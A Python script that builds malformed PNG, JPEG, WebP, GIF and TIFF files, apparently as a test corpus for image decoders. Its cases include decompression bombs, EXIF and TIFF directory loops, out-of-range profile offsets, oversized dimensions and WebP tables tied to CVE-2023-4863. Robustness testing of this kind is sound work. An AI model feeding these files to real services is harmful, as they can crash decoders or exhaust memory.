#!/usr/bin/env python3
"""Writes files in the shapes by which programs that open pictures and pages were taken over, stopped or filled with memory.

    hostile-shapes.py FOLDER [FAMILY]

One file each, named by its family and by what it is; always the same ones. Where a shape is known by a CVE its function says
so. Everything is made by hand, so that nothing corrects it on the way.
"""

import struct
import sys
import zlib
from pathlib import Path

shapes = {}


def shape(name, content):
    assert name not in shapes, name
    shapes[name] = content


def u8(*numbers):
    return bytes(number & 255 for number in numbers)


def le16(*numbers):
    return b"".join(struct.pack("<H", number & 0xFFFF) for number in numbers)


def le32(*numbers):
    return b"".join(struct.pack("<I", number & 0xFFFFFFFF) for number in numbers)


def le64(*numbers):
    return b"".join(struct.pack("<Q", number & (1 << 64) - 1) for number in numbers)


def be16(*numbers):
    return b"".join(struct.pack(">H", number & 0xFFFF) for number in numbers)


def be32(*numbers):
    return b"".join(struct.pack(">I", number & 0xFFFFFFFF) for number in numbers)


def be64(*numbers):
    return b"".join(struct.pack(">Q", number & (1 << 64) - 1) for number in numbers)


class Bits:
    """Bits into bytes, the lowest first, or the highest."""

    def __init__(self, lowest_first=False):
        self.lowest_first, self.bits = lowest_first, []

    def put(self, value, count):
        order = range(count) if self.lowest_first else reversed(range(count))
        self.bits += [value >> place & 1 for place in order]
        return self

    def code(self, text):
        self.bits += [int(bit) for bit in text]
        return self

    def end(self, fill=0):
        self.bits += [fill] * (-len(self.bits) % 8)
        return self

    def bytes(self):
        self.end()
        result = bytearray()
        for place in range(0, len(self.bits), 8):
            part = self.bits[place : place + 8]
            part = part[::-1] if self.lowest_first else part
            result.append(int("".join(map(str, part)), 2))
        return bytes(result)


def packed_block():
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)


block_of_zeros = packed_block()


def deflated_zeros(megabytes, bare=False):
    """So many MiB of zeros, packed without ever having been there."""
    bare_data = block_of_zeros * megabytes + b"\x03\0"
    if bare:
        return bare_data
    return b"\x78\xda" + bare_data + be32((megabytes << 20) % 65521 << 16 | 1)


def exif_loop(order="<"):
    """A directory whose EXIF directory, and next directory, it is itself."""
    p16, p32 = (le16, le32) if order == "<" else (be16, be32)
    begins = b"II*\0" if order == "<" else b"MM\0*"
    entries = p16(0x8769, 4) + p32(1, 8) + p16(0x8825, 4) + p32(1, 8)
    return begins + p32(8) + p16(2) + entries + p32(8)


def icc(size=None, tags=1, offset=128, space=b"RGB "):
    """A profile whose tags lie where it is said, which need not be within it."""
    header = be32(size or 200) + b"lcms" + be32(0x02100000) + b"mntr" + space + b"XYZ " + bytes(12) + b"acsp"
    header += bytes(68 - len(header)) + be32(0xF6D6, 0x10000, 0xD32D)
    header += bytes(128 - len(header))
    return header + be32(tags) + b"".join(b"A2B0" + be32(offset, 0x7FFFFFF0) for _ in range(min(tags, 100)))


# ---- PNG


def png_chunk(name, content=b"", check=None, length=None):
    check = zlib.crc32(name + content) if check is None else check
    return be32(len(content) if length is None else length) + name + content + be32(check)


def ihdr(width=8, height=8, depth=8, kind=2, interlace=0, method=0, prefilter=0):
    return png_chunk(b"IHDR", be32(width, height) + u8(depth, kind, method, prefilter, interlace))


def png(*chunks):
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def png_rows(width, height, bytes_per_pixel, filter_type=0):
    return zlib.compress((u8(filter_type) + bytes(width * bytes_per_pixel)) * height)


def png_shapes():
    end, rows = png_chunk(b"IEND"), png_chunk(b"IDAT", png_rows(8, 8, 3))
    indices = png_chunk(b"IDAT", zlib.compress((b"\0" + bytes(range(248, 256))) * 8))
    bomb = deflated_zeros(1024)
    shape("png-whole", png(ihdr(), rows, end))
    shape("png-profile-of-a-gibibyte", png(ihdr(), png_chunk(b"iCCP", b"a\0\0" + bomb), rows, end))
    shape("png-text-of-a-gibibyte", png(ihdr(), png_chunk(b"zTXt", b"a\0\0" + bomb), rows, end))
    shape("png-international-text-of-a-gibibyte", png(ihdr(), png_chunk(b"iTXt", b"a\0\1\0\0\0" + bomb), rows, end))
    text = png_chunk(b"zTXt", b"a\0\0" + deflated_zeros(7))
    shape("png-texts-of-megabytes", png(ihdr(), text * 12, rows, end))
    shape("png-texts-of-many", png(ihdr(), png_chunk(b"tEXt", b"a\0") * 200000, rows, end))
    shape("png-profile-beyond-itself", png(ihdr(), png_chunk(b"iCCP", b"a\0\0" + zlib.compress(icc(1 << 31, 1 << 30))), rows, end))
    shape("png-profile-of-tags-beyond", png(ihdr(), png_chunk(b"iCCP", b"a\0\0" + zlib.compress(icc(offset=0xFFFFFFF0))), rows, end))
    shape("png-profile-of-another-space", png(ihdr(), png_chunk(b"iCCP", b"a\0\0" + zlib.compress(icc(space=b"CMYK"))), rows, end))
    shape("png-data-before-header", png(rows, ihdr(), end))
    shape("png-palette-after-data", png(ihdr(kind=3), indices, png_chunk(b"PLTE", bytes(9)), end))
    shape("png-without-palette", png(ihdr(kind=3), indices, end))
    shape("png-two-headers", png(ihdr(), ihdr(60000, 60000), rows, end))
    shape("png-palette-of-257", png(ihdr(kind=3), png_chunk(b"PLTE", bytes(771)), indices, end))
    shape("png-palette-of-a-part", png(ihdr(kind=3), png_chunk(b"PLTE", bytes(8)), indices, end))
    shape("png-index-beyond-palette", png(ihdr(kind=3), png_chunk(b"PLTE", bytes(6)), indices, end))
    shape(
        "png-opacity-beyond-palette",
        png(ihdr(kind=3), png_chunk(b"PLTE", bytes(6)), png_chunk(b"tRNS", bytes(256)), indices, end),
    )
    shape("png-interlaced-16-bits-huge", png(ihdr(2500, 2500, 16, 6, 1), png_chunk(b"IDAT", deflated_zeros(48)), end))
    shape("png-interlaced-pixel", png(ihdr(1, 1, 8, 2, 1), png_chunk(b"IDAT", png_rows(1, 1, 3)), end))
    shape("png-hundred-thousand-empty-data", png(ihdr(), png_chunk(b"IDAT") * 100000, rows, end))
    shape("png-exif-loop", png(ihdr(), png_chunk(b"eXIf", exif_loop()), rows, end))
    shape("png-exif-beyond", png(ihdr(), png_chunk(b"eXIf", b"MM\0*" + be32(0xFFFFFFF4) + be16(0xFFFF)), rows, end))
    shape("png-exif-of-65535-entries", png(ihdr(), png_chunk(b"eXIf", b"II*\0" + le32(8) + b"\xff\xff" + bytes(99)), rows, end))
    shape("png-chunk-of-2-gibibytes", png(ihdr(), png_chunk(b"tEXt", b"a\0", length=0x7FFFFFFF), rows, end))
    shape("png-chunk-of-4-gibibytes", png(ihdr(), png_chunk(b"tEXt", b"a\0", length=0xFFFFFFFF), rows, end))
    shape("png-three-bits", png(ihdr(depth=3), rows, end))
    shape("png-interlace-of-no-kind", png(ihdr(interlace=7), rows, end))
    shape("png-no-data", png(ihdr(), end))
    shape("png-rows-of-no-kind", png(ihdr(), png_chunk(b"IDAT", png_rows(8, 8, 3, 77)), end))
    shape("png-critical-chunk-of-no-kind", png(ihdr(), png_chunk(b"ABCD", b"x"), rows, end))
    shape("png-wrong-sum", png(ihdr(), png_chunk(b"IDAT", png_rows(8, 8, 3), check=1), end))
    shape("png-window-too-large", png(ihdr(), png_chunk(b"IDAT", b"\xf8" + png_rows(8, 8, 3)[1:]), end))
    shape("png-million-wide", png(ihdr(1000000, 1, 16, 6), png_chunk(b"IDAT", deflated_zeros(8)), end))
    shape("png-one-wide-199-million-high", png(ihdr(1, 199000000, 1, 0), png_chunk(b"IDAT", deflated_zeros(380)), end))
    shape("png-gamma-zero", png(ihdr(), png_chunk(b"gAMA", be32(0)), png_chunk(b"cHRM", be32(*[0] * 8)), rows, end))
    shape("png-suggested-palette-of-no-depth", png(ihdr(), png_chunk(b"sPLT", b"a\0" + u8(77) + bytes(31)), rows, end))
    shape("png-significant-bits-beyond", png(ihdr(), png_chunk(b"sBIT", u8(0, 99, 255)), rows, end))
    shape("png-data-for-more-rows", png(ihdr(), png_chunk(b"IDAT", deflated_zeros(60)), end))


# ---- JPEG


def segment(mark, content):
    return u8(0xFF, mark) + be16(len(content) + 2) + content


def dht(kind, counts=(1,), values=b"\0"):
    return segment(0xC4, u8(kind) + bytes(counts) + bytes(16 - len(counts)) + values)


def dqt(number=0, value=1):
    return segment(0xDB, u8(number) + u8(value) * 64)


def sof(mark, width, height, components=((1, 0x11, 0),), precision=8):
    parts = b"".join(u8(*component) for component in components)
    return segment(mark, u8(precision) + be16(height, width) + u8(len(components)) + parts)


def sos(components=((1, 0),), start=0, end=63, bits=0):
    parts = b"".join(u8(*component) for component in components)
    return segment(0xDA, u8(len(components)) + parts + u8(start, end, bits))


# Codes of one bit: a difference of none, and the end of a block.
plain_tables = dqt() + dht(0) + dht(0x10)
three = ((1, 0x11, 0), (2, 0x11, 0), (3, 0x11, 0))
three_scanned = ((1, 0), (2, 0), (3, 0))


def jpeg(width=16, height=16, components=1, before=b"", mark=0xC0, data=None, tables=None, precision=8):
    """Even grey, if nothing else is said."""
    kinds = tuple((number + 1, 0x11, 0) for number in range(components))
    scanned = tuple((number + 1, 0) for number in range(components))
    blocks = -(-width // 8) * -(-height // 8) * components
    data = bytes(min(blocks // 4 + 1, 4096)) if data is None else data
    tables = plain_tables if tables is None else tables
    return b"\xff\xd8" + before + tables + sof(mark, width, height, kinds, precision) + sos(scanned) + data + b"\xff\xd9"


def jpeg_of(*parts):
    return b"\xff\xd8" + b"".join(parts) + b"\xff\xd9"


def icc_part(number, count, content):
    return segment(0xE2, b"ICC_PROFILE\0" + u8(number, count) + content)


def jpeg_shapes():
    shape("jpeg-whole", jpeg())
    shape("jpeg-colours", jpeg(components=3))
    shape("jpeg-table-of-too-many", jpeg(tables=dqt() + dht(0, [255] * 16, bytes(4080)) + dht(0x10)))
    shape("jpeg-table-overfull", jpeg(tables=dqt() + dht(0, [3], b"\0\1\2") + dht(0x10)))
    shape("jpeg-table-of-none", jpeg(tables=dqt() + dht(0, [0], b"") + dht(0x10)))
    shape("jpeg-table-beyond-segment", jpeg(tables=dqt() + segment(0xC4, b"\0" + u8(*[16] * 16) + b"\0") + dht(0x10)))
    shape("jpeg-table-of-categories-beyond", jpeg(tables=dqt() + dht(0, [1], b"\xff") + dht(0x10, [1], b"\xff")))
    shape("jpeg-table-number-beyond", jpeg(tables=dqt(9) + dht(0x0F) + dht(0x1F)))
    shape("jpeg-without-tables", jpeg(tables=b""))
    shape("jpeg-quantizers-of-none", jpeg(tables=dqt(0, 0) + dht(0) + dht(0x10)))
    first = plain_tables + sof(0xC2, 1500, 1500) + sos(start=0, end=0) + bytes(20000)
    runs = dht(0x10, [1], b"\xe0")
    scan = sos(start=1, end=63) + bytes(12)
    shape("jpeg-progressive-of-1000-scans", jpeg_of(first, runs, scan * 1000))
    first = plain_tables + sof(0xC2, 16000, 12000, three) + sos(three_scanned, 0, 0) + bytes(4096)
    shape("jpeg-progressive-huge", jpeg_of(first, runs, scan * 300))
    shape("jpeg-progressive-bits-backwards", jpeg_of(plain_tables, sof(0xC2, 16, 16), sos(start=0, end=0, bits=0xF0), bytes(9)))
    shape("jpeg-progressive-band-backwards", jpeg_of(plain_tables, sof(0xC2, 16, 16), sos(start=63, end=1), bytes(9)))
    shape("jpeg-arithmetic", jpeg(mark=0xC9, before=segment(0xCC, u8(0, 0x10, 0x10, 5))))
    shape("jpeg-arithmetic-conditions-beyond", jpeg(mark=0xC9, before=segment(0xCC, u8(0, 0x0F, 0xFF, 0xFF))))
    shape("jpeg-arithmetic-progressive", jpeg(mark=0xCA))
    shape("jpeg-12-bits", jpeg(mark=0xC1, precision=12))
    shape("jpeg-lossless", jpeg(mark=0xC3))
    shape("jpeg-hierarchical", jpeg(mark=0xC5))
    adobe = [segment(0xEE, b"Adobe" + be16(100, 0, 0) + u8(kind)) for kind in range(4)]
    shape("jpeg-cmyk", jpeg(components=4, before=adobe[2]))
    shape("jpeg-adobe-colours-of-two", jpeg(components=2, before=adobe[2]))
    shape("jpeg-adobe-colours-of-one", jpeg(components=1, before=adobe[2]))
    shape("jpeg-adobe-colours-of-no-kind", jpeg(components=3, before=adobe[3]))
    shape("jpeg-adobe-cut", jpeg(components=3, before=segment(0xEE, b"Adobe")))
    shape("jpeg-five-components", jpeg(components=5))
    shape("jpeg-255-components", jpeg_of(plain_tables, sof(0xC0, 16, 16, [(n, 0x11, 0) for n in range(255)]), sos(), bytes(99)))
    shape("jpeg-no-components", jpeg_of(plain_tables, sof(0xC0, 16, 16, ()), sos(()), bytes(99)))
    shape("jpeg-same-component-thrice", jpeg_of(plain_tables, sof(0xC0, 16, 16, ((1, 0x11, 0),) * 3), sos(((1, 0),) * 3), bytes(99)))
    shape("jpeg-sampled-0", jpeg_of(plain_tables, sof(0xC0, 16, 16, ((1, 0x00, 0),)), sos(), bytes(99)))
    shape("jpeg-sampled-15", jpeg_of(plain_tables, sof(0xC0, 16, 16, ((1, 0xFF, 0),)), sos(), bytes(99)))
    odd = ((1, 0x31, 0), (2, 0x14, 0), (3, 0x42, 0))
    shape("jpeg-sampled-oddly", jpeg_of(plain_tables, sof(0xC0, 999, 999, odd), sos(three_scanned), bytes(9999)))
    shape("jpeg-exif-loop", jpeg(before=segment(0xE1, b"Exif\0\0" + exif_loop())))
    shape("jpeg-exif-loop-from-above", jpeg(before=segment(0xE1, b"Exif\0\0" + exif_loop(">"))))
    turn = b"MM\0*" + be32(8) + be16(1) + be16(0x0112, 3) + be32(0xFFFFFFFF) + be16(0xFFFF, 0) + be32(8)
    shape("jpeg-exif-turned-65535", jpeg(before=segment(0xE1, b"Exif\0\0" + turn)))
    shape("jpeg-exif-empty", jpeg(before=segment(0xE1, b"Exif\0\0")))
    part = icc(offset=0x7FFFFF00)
    shape("jpeg-profile-of-255-parts", jpeg(components=3, before=b"".join(icc_part(n, 255, part) for n in range(1, 256))))
    large = b"".join(icc_part(n, 255, bytes(9000)) for n in range(255, 0, -1))
    shape("jpeg-profile-of-megabytes", jpeg(components=3, before=large))
    shape("jpeg-profile-without-a-part", jpeg(before=icc_part(2, 3, part) + icc_part(3, 3, part)))
    shape("jpeg-profile-of-part-0", jpeg(before=icc_part(0, 0, part)))
    shape("jpeg-huge-and-empty", jpeg(16000, 12500, 1, data=b""))
    shape("jpeg-huge-in-colours-and-empty", jpeg(14000, 14000, 3, data=b""))
    shape("jpeg-of-no-width", jpeg(0, 16))
    shape("jpeg-height-said-later", jpeg_of(plain_tables, sof(0xC0, 16, 0), sos(), bytes(9), segment(0xDC, be16(16))))
    shape("jpeg-restarts-of-many", jpeg_of(plain_tables, segment(0xDD, be16(1)), sof(0xC0, 8000, 8000), sos(), b"\0\xff\xd0" * 300000))
    shape("jpeg-two-frames", jpeg_of(plain_tables, sof(0xC0, 16, 16), sof(0xC0, 60000, 60000), sos(), bytes(99)))
    shape("jpeg-segment-of-no-length", jpeg_of(u8(0xFF, 0xE1, 0, 0), plain_tables, sof(0xC0, 16, 16), sos(), bytes(9)))
    shape("jpeg-only-marks", b"\xff\xd8" + b"\xff" * 1000000)
    shape("jpeg-comments-of-many", jpeg(before=segment(0xFE, b"x") * 300000))


# ---- WebP


def riff(*chunks, size=None):
    content = b"WEBP" + b"".join(chunks)
    return b"RIFF" + le32(len(content) if size is None else size) + content


def webp_chunk(name, content, size=None):
    return name + le32(len(content) if size is None else size) + content + bytes(len(content) % 2)


def le24(*numbers):
    return b"".join(le32(number)[:3] for number in numbers)


def lossless(width, height, write):
    bits = Bits(lowest_first=True).put(0x2F, 8).put(width - 1, 14).put(height - 1, 14).put(0, 4)
    write(bits)
    return bits.bytes() + bytes(64)


def one_symbol(bits):
    bits.put(1, 1).put(0, 1).put(0, 1).put(0, 1)


def prefix_code(bits, lengths):
    """By lengths, each of which is written in four bits."""
    bits.put(0, 1).put(15, 4)
    for symbol in [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15]:
        bits.put(4 if symbol < 16 else 0, 3)
    bits.put(0, 1)
    for length in lengths:
        bits.code(f"{length:04b}")


def lengths_of(counts):
    return [length for length, count in enumerate(counts) for _ in range(count)]


def five_codes(*lengths, cache=0):
    def write(bits):
        bits.put(0, 1)
        bits.put(1, 1).put(cache, 4) if cache else bits.put(0, 1)
        bits.put(0, 1)
        for each in lengths:
            prefix_code(bits, each)

    return write


def plain_pixels(bits):
    bits.put(0, 3)
    for _ in range(5):
        one_symbol(bits)


def transforms(*kinds):
    def write(bits):
        for kind in kinds:
            bits.put(1, 1).put(kind, 2)
            if kind < 2:
                bits.put(0, 3).put(0, 1)
            elif kind == 3:
                bits.put(255, 8).put(0, 1)
            if kind != 2:
                for _ in range(5):
                    one_symbol(bits)
        plain_pixels(bits)

    return write


def webp_of(write, width=16, height=16):
    return riff(webp_chunk(b"VP8L", lossless(width, height, write)))


def vp8(width, height, first_size=100, data=b""):
    frame = first_size << 5 | 1 << 4
    return le24(frame) + b"\x9d\x01\x2a" + le16(width, height) + data


def webp_shapes():
    whole = webp_chunk(b"VP8L", lossless(16, 16, plain_pixels))
    shape("webp-whole", riff(whole))
    # CVE-2023-4863: tables of these sizes were larger together than what was taken for them.
    full = [lengths_of([0, 1, 1, 0, 0, 0, 0, 0, 0, 3, 229, 41, 1, 1, 1, 2])]
    full += [lengths_of([0, 1, 1, 0, 0, 0, 0, 0, 0, 7, 241, 1, 1, 1, 1, 2])] * 3
    for number, last in enumerate([[0, 1, 1, 1, 1, 0, 0, 0, 0, 27, 1, 1, 1, 1, 1, 4], [0, 1, 1, 1, 1, 1, 0, 0, 0, 11, 5, 1, 10, 4, 2, 2]]):
        shape(f"webp-lossless-overfull-codes-{number}", webp_of(five_codes(*full, lengths_of(last))))
    twos = [2] * 280
    shape("webp-lossless-codes-of-two-bits", webp_of(five_codes(twos, twos[:256], twos[:256], twos[:256], twos[:40])))
    long = [15] * 280
    shape("webp-lossless-incomplete-codes", webp_of(five_codes(long, long[:256], long[:256], long[:256], long[:40])))
    none = [0] * 280
    shape("webp-lossless-no-codes", webp_of(five_codes(none, none[:256], none[:256], none[:256], none[:40])))
    shape("webp-lossless-cache-of-11-bits", webp_of(five_codes([12] * 2328, long[:256], long[:256], long[:256], long[:40], cache=11)))
    shape("webp-lossless-cache-of-15-bits", webp_of(five_codes(long, long[:256], long[:256], long[:256], long[:40], cache=15)))
    shape("webp-lossless-transforms", webp_of(transforms(0, 1, 2)))
    shape("webp-lossless-transform-twice", webp_of(transforms(1, 1, 1)))
    shape("webp-lossless-palette-cut", webp_of(transforms(3)))
    shape("webp-lossless-as-large-as-may-be", webp_of(plain_pixels, 14000, 14000))
    shape("webp-lossless-too-large", webp_of(plain_pixels, 16384, 16384))
    shape("webp-lossless-nothing-behind-its-size", riff(webp_chunk(b"VP8L", b"\x2f" + le32(0))))

    def canvas(flags, width, height):
        return webp_chunk(b"VP8X", u8(flags, 0, 0, 0) + le24(width - 1, height - 1))

    shape("webp-canvas-of-another-size", riff(canvas(0, 1 << 24, 1 << 24), whole))
    shape("webp-canvas-smaller", riff(canvas(0, 1, 1), whole))

    def moving(x, y, width, height, content):
        return webp_chunk(b"ANMF", le24(x, y, width - 1, height - 1, 0) + u8(0) + content)

    film = webp_chunk(b"ANIM", bytes(6))
    shape("webp-frame-outside", riff(canvas(2, 16, 16), film, moving(0xFFFFFF, 0xFFFFFF, 16, 16, whole)))
    shape("webp-frame-of-another-size", riff(canvas(2, 16, 16), film, moving(0, 0, 1 << 24, 1 << 24, whole)))
    shape("webp-frame-within-a-frame", riff(canvas(2, 16, 16), film, moving(0, 0, 16, 16, moving(0, 0, 16, 16, whole))))
    shape("webp-frames-of-many", riff(canvas(2, 16, 16), film, moving(0, 0, 16, 16, whole) * 20000))
    shape("webp-film-without-frames", riff(canvas(2, 16, 16), film))
    lossy = webp_chunk(b"VP8 ", vp8(16, 16, 20, bytes(99)))
    shape("webp-lossy", riff(lossy))
    shape("webp-lossy-part-beyond", riff(webp_chunk(b"VP8 ", vp8(16, 16, (1 << 19) - 1, bytes(99)))))
    shape("webp-lossy-huge-and-empty", riff(webp_chunk(b"VP8 ", vp8(14000, 14000, 20, bytes(99)))))
    shape("webp-lossy-of-no-size", riff(webp_chunk(b"VP8 ", vp8(0, 0, 20, bytes(99)))))
    shape("webp-lossy-no-key-frame", riff(webp_chunk(b"VP8 ", b"\x01" + vp8(16, 16, 20, bytes(99))[1:])))
    shape("webp-opacity-too-short", riff(canvas(0x10, 16, 16), webp_chunk(b"ALPH", b"\0\xff"), lossy))
    shape("webp-opacity-of-no-kind", riff(canvas(0x10, 16, 16), webp_chunk(b"ALPH", b"\xff" * 300), lossy))
    packed = lossless(16, 16, plain_pixels)[5:]
    shape("webp-opacity-of-another-size", riff(canvas(0x10, 16, 16), webp_chunk(b"ALPH", b"\1" + packed[:3]), lossy))
    shape("webp-size-of-4-gibibytes", riff(whole, size=0xFFFFFFFF))
    shape("webp-size-of-none", riff(whole, size=0))
    shape("webp-chunk-of-4-gibibytes", riff(webp_chunk(b"VP8L", lossless(16, 16, plain_pixels), size=0xFFFFFFFE)))
    shape("webp-profile-beyond", riff(canvas(0x20, 16, 16), webp_chunk(b"ICCP", icc(offset=0xFFFFFFF0)), whole))
    shape("webp-exif-loop", riff(canvas(8, 16, 16), whole, webp_chunk(b"EXIF", b"Exif\0\0" + exif_loop())))
    shape("webp-exif-of-a-byte", riff(canvas(8, 16, 16), whole, webp_chunk(b"EXIF", b"I")))
    shape("webp-chunks-of-many", riff(canvas(0, 16, 16), webp_chunk(b"ABCD", b"") * 200000, whole))


# ---- GIF


def blocks(content):
    parts = [content[place : place + 255] for place in range(0, len(content), 255)]
    return b"".join(u8(len(part)) + part for part in parts) + b"\0"


def lzw(indices, size=2):
    """Each stands for itself; the table is emptied before codes become longer."""
    bits = Bits(lowest_first=True)
    for place, index in enumerate(indices):
        if place % ((1 << size) - 2) == 0:
            bits.put(1 << size, size + 1)
        bits.put(index, size + 1)
    return bits.put((1 << size) + 1, size + 1).bytes()


def frame(width=4, height=4, left=0, top=0, flags=0, palette=b"", size=2, data=None):
    data = lzw([index % 4 for index in range(16)]) if data is None else data
    return b"," + le16(left, top, width, height) + u8(flags) + palette + u8(size) + blocks(data)


def gif(*parts, width=4, height=4, flags=0x81, palette=bytes(range(12)), background=0):
    return b"GIF89a" + le16(width, height) + u8(flags, background, 0) + palette + b"".join(parts) + b";"


def gif_shapes():
    control = b"!\xf9\4\1\0\0"
    shape("gif-whole", gif(frame()))
    shape("gif-codes-of-13-bits", gif(frame(size=13)))
    shape("gif-codes-of-255-bits", gif(frame(size=255)))
    shape("gif-codes-of-0-bits", gif(frame(size=0)))
    shape("gif-codes-of-8-bits", gif(frame(size=8, data=lzw([255] * 16, 8))))
    shape("gif-code-before-it-is-there", gif(frame(data=Bits(True).put(4, 3).put(7, 3).put(7, 3).put(6, 3).bytes() * 9)))
    shape("gif-codes-never-emptied", gif(frame(200, 200, data=bytes(5000))))
    shape("gif-only-emptied", gif(frame(200, 200, data=b"\x24\x49\x92" * 30000)))
    shape("gif-frame-outside", gif(frame(left=60000, top=60000)))
    shape("gif-frame-larger-than-screen", gif(frame(4000, 4000), width=1, height=1))
    shape("gif-frame-of-no-size", gif(frame(0, 0)))
    shape("gif-frame-of-no-height", gif(frame(4, 0)))
    shape("gif-screen-of-65535", gif(frame(), width=65535, height=65535))
    shape("gif-frame-of-65535", gif(frame(65535, 65535)))
    shape("gif-frame-huge-and-empty", gif(frame(14000, 14000, data=b"")))
    shape("gif-no-palette", gif(frame(), flags=1, palette=b""))
    shape("gif-palette-cut", gif(frame(flags=0x87, palette=bytes(99)))[:120])
    shape("gif-index-beyond-palette", gif(frame(size=8, data=lzw(range(240, 256), 8))))
    shape("gif-background-beyond-palette", gif(frame(), background=255))
    shape("gif-transparent-beyond-palette", gif(control + u8(255, 0), frame()))
    shape("gif-interlaced-rows", gif(frame(4, 3, flags=0x40)))
    shape("gif-interlaced-one-row", gif(frame(4, 1, flags=0x40)))
    shape("gif-extensions-of-many", gif(b"!\xfe\1x\0" * 300000, frame()))
    shape("gif-extension-of-megabytes", gif(b"!\xfe" + blocks(bytes(3000000)), frame()))
    shape("gif-extension-without-end", gif(b"!\xfe" + b"\xff" * 300000))
    shape("gif-control-too-long", gif(b"!\xf9" + blocks(bytes(250)), frame()))
    shape("gif-control-empty", gif(b"!\xf9\0", frame()))
    shape("gif-record-of-no-kind", gif(b"?", frame()))
    shape("gif-no-frame", gif())
    shape("gif-data-after-its-end", gif(frame(data=lzw([0, 1]) + bytes(4000))))


# ---- TIFF

# In bytes, of each type.
tiff_sizes = {1: 1, 2: 1, 3: 2, 4: 4, 5: 8, 6: 1, 7: 1, 8: 2, 9: 4, 10: 8, 11: 4, 12: 8, 13: 4, 16: 8}


def tiff(*directories, data=bytes(4096), order="<", next_of=None):
    """Directories of tag: (type, values), or (type, count, four bytes); the data begins at byte 8. `next_of` says which
    directory is behind each."""
    p16, p32 = (le16, le32) if order == "<" else (be16, be32)
    pack = {1: u8, 2: u8, 3: p16, 4: p32, 6: u8, 7: u8, 13: p32}
    body = bytearray((b"II*\0" if order == "<" else b"MM\0*") + b"????" + data + bytes(len(data) % 2))
    starts, holes = [], []
    for directory in directories:
        values = {}
        for tag, entry in directory.items():
            if len(entry) == 3:
                continue
            kind, numbers = entry
            content = numbers if isinstance(numbers, bytes) else pack[kind](*numbers)
            if len(content) > 4:
                values[tag] = p32(len(body))
                body += content + bytes(len(content) % 2)
            else:
                values[tag] = content + bytes(4 - len(content))
        starts.append(len(body))
        body += p16(len(directory))
        for tag, entry in sorted(directory.items()):
            if len(entry) == 3:
                body += p16(tag, entry[0]) + p32(entry[1]) + entry[2]
            else:
                count = len(entry[1]) // (tiff_sizes[entry[0]] if isinstance(entry[1], bytes) else 1)
                body += p16(tag, entry[0]) + p32(count) + values[tag]
        holes.append(len(body))
        body += p32(0)
    body[4:8] = p32(starts[0])
    for number, hole in enumerate(holes):
        after = number + 1 if next_of is None else next_of[number]
        if after is not None and after < len(starts):
            body[hole : hole + 4] = p32(starts[after])
    return bytes(body)


def grey(width=16, height=16, compression=1, count=4096, **more):
    """A directory of one strip; keyword arguments are tags, t258=(3, [8])."""
    directory = {
        256: (4, [width]), 257: (4, [height]), 258: (3, [8]), 259: (3, [compression]), 262: (3, [1]), 273: (4, [8]),
        277: (3, [1]), 278: (4, [height]), 279: (4, [count]),
    }
    directory.update({int(name[1:]): entry for name, entry in more.items()})
    return {tag: entry for tag, entry in directory.items() if entry is not None}


def tiled(width, height, tile_width, tile_height, **more):
    return grey(
        width, height, t273=None, t278=None, t279=None, t322=(4, [tile_width]), t323=(4, [tile_height]), t324=(4, [8]),
        t325=(4, [4096]), **more,
    )


def tiff_shapes():
    shape("tiff-whole", tiff(grey()))
    shape("tiff-whole-from-above", tiff(grey(), order=">"))
    shape("tiff-tile-of-none", tiff(tiled(16, 16, 0, 0)))
    shape("tiff-tile-of-no-height", tiff(tiled(16, 16, 16, 0)))
    shape("tiff-tile-of-4-giga", tiff(tiled(16, 16, 0xFFFFFFF0, 0xFFFFFFF0)))
    shape("tiff-tile-of-a-gibibyte", tiff(tiled(16, 16, 32768, 32768)))
    shape("tiff-tile-of-a-pixel", tiff(tiled(4000, 4000, 1, 1)))
    shape("tiff-tiles-missing", tiff(tiled(1600, 1600, 16, 16)))
    shape("tiff-no-samples", tiff(grey(t277=(3, [0]))))
    shape("tiff-65535-samples", tiff(grey(t277=(3, [65535]))))
    shape("tiff-65535-samples-in-planes", tiff(grey(t277=(3, [65535]), t284=(3, [2]))))
    shape("tiff-samples-without-bits", tiff(grey(t277=(3, [4]), t262=(3, [2]))))
    shape("tiff-bits-of-two-kinds", tiff(grey(t277=(3, [3]), t258=(3, [8, 16, 1]), t262=(3, [2]))))
    for bits in [0, 3, 64, 65535]:
        shape(f"tiff-{bits}-bits", tiff(grey(t258=(3, [bits]))))
    shape("tiff-directory-after-itself", tiff(grey(), next_of=[0]))
    shape("tiff-directories-in-a-loop", tiff(grey(), grey(), grey(), next_of=[1, 2, 0]))
    shape("tiff-many-directories", tiff(*[grey()] * 20000))
    shape("tiff-directory-within-itself", tiff(grey(t330=(13, [8, 8, 8]))))
    shape("tiff-directory-of-65535", tiff(grey())[:4] + le32(8) + b"\xff\xff" + bytes(1000))
    shape("tiff-directory-beyond", b"II*\0" + le32(0xFFFFFFF0) + bytes(99))
    shape("tiff-strip-longer-than-file", tiff(grey(count=0x7FFFFFFF)))
    shape("tiff-strip-of-4-gibibytes", tiff(grey(4096, 4096, count=0xFFFFFFFF, t273=(4, [0xFFFFFFF0]))))
    shape("tiff-strips-of-a-row", tiff(grey(100, 100000, t278=(4, [1]))))
    shape("tiff-strip-of-no-rows", tiff(grey(t278=(4, [0]))))
    shape("tiff-strip-of-4-giga-rows", tiff(grey(t278=(4, [0xFFFFFFFF]))))
    shape("tiff-billion-strips", tiff(grey(t273=(4, 1 << 30, le32(8)), t279=(4, 1 << 30, le32(8)), t278=(4, [1]))))
    shape("tiff-value-beyond", tiff(grey(t270=(2, 0xFFFFFFFF, le32(8)))))
    shape("tiff-profile-beyond", tiff(grey(t34675=(7, 0x7FFFFFFF, le32(8)))))
    shape("tiff-profile-of-tags-beyond", tiff(grey(t34675=(7, icc(offset=0xFFFFFFF0)))))
    shape("tiff-type-of-no-kind", tiff(grey(t270=(77, 4, le32(8)))))
    shape("tiff-size-as-text", tiff(grey(t256=(2, b"16\0"))))
    shape("tiff-4-giga-wide", tiff(grey(0xFFFFFFFF, 0xFFFFFFFF)))
    shape("tiff-no-size", tiff(grey(0, 0)))
    shape("tiff-turned-65535", tiff(grey(t274=(3, [65535]))))
    shape("tiff-huge-and-empty", tiff(grey(14000, 14000, 1)))
    shape("tiff-huge-in-planes", tiff(grey(2500, 2500, t277=(3, [4]), t258=(3, [16] * 4), t262=(3, [2]), t284=(3, [2]))))
